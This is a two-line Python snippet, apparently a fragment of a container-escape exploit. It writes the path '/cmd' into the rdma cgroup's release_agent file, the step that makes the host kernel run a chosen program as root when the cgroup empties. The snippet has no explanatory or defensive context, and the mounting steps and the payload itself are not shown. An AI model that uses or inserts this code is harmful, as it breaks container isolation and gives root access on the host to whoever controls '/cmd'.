with open('/sys/fs/cgroup/rdma/release_agent', 'w') as f:
    f.write('/cmd')
